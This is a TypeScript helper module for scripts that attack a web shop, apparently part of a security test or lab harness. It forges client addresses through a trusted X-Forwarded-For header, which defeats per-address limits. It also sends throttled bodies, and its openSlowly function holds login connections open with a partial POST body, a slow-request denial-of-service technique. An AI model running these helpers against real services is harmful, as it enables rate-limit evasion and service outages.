import { Agent, request } from "node:http";
import { connect, type Socket } from "node:net";
import { Readable } from "node:stream";
import { setTimeout as wait } from "node:timers/promises";

/** The shop under attack trusts one proxy, which these scripts play: each request says which address it comes from. */
export interface Sender {
  url: string;
  /** Network address that the shop sees. */
  address: string;
  /** Device id. */
  uuid: string;
}

/** What is sent. */
export interface Sent {
  method?: "GET" | "POST";
  headers?: Record<string, string>;
  body?: string | Buffer;
  /** What the body has to pass; otherwise it is there at once. */
  line?: Line;
}

export interface Answer {
  /** 0 if the connection ended without an answer. */
  status: number;
  text: string;
}

const agent = new Agent({ keepAlive: true, maxSockets: 500 });
/** Longest wait for an answer, ms. */
const longestMs = 30_000;

/** Sends a request and never throws. */
export function send({ url, address, uuid }: Sender, path: string, sent: Sent = {}): Promise<Answer> {
  const { method = "GET", headers = {}, body = "", line } = sent;
  const all = {
    "x-forwarded-for": address,
    uuid,
    ...headers,
    ...(method === "POST" && { "content-length": String(Buffer.byteLength(body)) }),
  };
  return new Promise((resolve) => {
    const lost = () => resolve({ status: 0, text: "" });
    const asked = request(new URL(path, url), { method, headers: all, agent, timeout: longestMs }, (answer) => {
      const parts: Buffer[] = [];
      answer.on("data", (part: Buffer) => parts.push(part));
      answer.on("end", () => resolve({ status: answer.statusCode ?? 0, text: Buffer.concat(parts).toString() }));
      answer.on("error", lost);
    });
    asked.on("timeout", () => asked.destroy());
    asked.on("error", lost);
    if (line) line.carry(Buffer.from(body)).pipe(asked);
    else asked.end(body);
  });
}

/** How much a line carries at once, bytes. */
const pieceBytes = 64 * 1024;

/** A line to the shop, which all who share it fill together: loopback alone would carry more than any host is reached by. */
export class Line {
  readonly #bytesPerMs: number;
  /** When the line is free again, ms of the process. */
  #free = 0;

  constructor(gigabits: number) {
    this.#bytesPerMs = (gigabits * 1e9) / 8 / 1_000;
  }

  /** A body as it leaves the line, piece by piece. */
  carry(body: Buffer): Readable {
    return Readable.from(this.#pieces(body), { objectMode: false });
  }

  async *#pieces(body: Buffer): AsyncGenerator<Buffer> {
    for (let from = 0; from < body.length; from += pieceBytes) {
      const piece = body.subarray(from, from + pieceBytes);
      this.#free = Math.max(this.#free, performance.now()) + piece.length / this.#bytesPerMs;
      await wait(this.#free - performance.now());
      yield piece;
    }
  }
}

/** Sends a form. */
export function sendForm(
  from: Sender,
  path: string,
  fields: Record<string, string>,
  headers: Record<string, string> = {},
): Promise<Answer> {
  const type = { "content-type": "application/x-www-form-urlencoded" };
  return send(from, path, {
    method: "POST",
    headers: { ...type, ...headers },
    body: new URLSearchParams(fields).toString(),
  });
}

/** A connection that announces a body and sends its first byte; the caller ends it. */
export function openSlowly(url: string, announced: number): Socket {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.on("error", () => undefined);
  // Without reading, it would not notice that the shop has ended it.
  socket.resume();
  socket.write(
    `POST /api/passport/userLogin HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\nContent-Length: ${announced}\r\n\r\n{`,
  );
  return socket;
}
